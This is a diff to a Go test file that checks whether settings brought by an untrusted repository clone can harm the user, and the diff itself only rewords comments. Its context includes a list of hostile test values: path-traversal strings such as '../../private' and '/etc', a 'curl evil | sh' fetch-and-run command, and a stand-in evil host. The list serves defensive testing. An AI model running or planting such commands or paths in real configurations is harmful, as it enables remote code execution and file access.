@@ -8,9 +8,8 @@ import (
 	"time"
 )
 
-// harmless says of every key that a clone may set freely what a hostile value of
-// it could lose or show: nothing, and why. A new key needs an answer: a rule that
-// restricts it, or a line here.
+// harmless holds, for every key that a clone may set freely, why a hostile value of it can neither lose nor show anything. A new key needs
+// an answer: a rule that restricts it, or a line here.
 var harmless = map[string]string{
 	"worktree.branch_prefix":           "names new branches; what git refuses is refused",
 	"worktree.port_base":               "a number in an agent's environment",
@@ -44,7 +43,7 @@ var harmless = map[string]string{
 	"repo.hooks.timeout":               "a hook that is cut off counts as failed, and only trusted ones run",
 }
 
-// attacks are values of a kind that could cost someone something.
+// attacks are values that could harm the user.
 func attacks(k key) []any {
 	switch {
 	case len(k.oneof) > 0:
@@ -67,8 +66,7 @@ func attacks(k key) []any {
 	return []any{"", "..", "/etc", "../../private", ".git", "src", "curl evil | sh", "https://evil.example", "evil"}
 }
 
-// users are configurations that a clone meets: none, and one that protects more,
-// or less, than the built-in values.
+// users are configurations that a clone can meet: none, and configurations that protect more, or less, than the built-in values.
 var users = []string{"", `
 agent.stale_after = "1h"
 agent.release_after = "0"
@@ -94,7 +92,7 @@ session.auto_generate_summary = false
 memory.auto_decay_on_session_end = true
 `}
 
-// worse says what a clone's file lost for the user; "" for nothing.
+// worse returns how a clone's file made things worse for the user; "" for not at all.
 func worse(k key, without, with any) string {
 	if reflect.DeepEqual(without, with) {
 		return ""
@@ -136,8 +134,7 @@ func worse(k key, without, with any) string {
 	return "it is set" // trust, user, secret
 }
 
-// Every key is asked what a clone that no one trusts could lose through it, by
-// both files that a clone may bring.
+// For every key, neither of the files of an untrusted clone can make things worse.
 func TestWhatACloneMaySet(t *testing.T) {
 	for _, name := range keyNames(schema()) {
 		k := schema()[name]
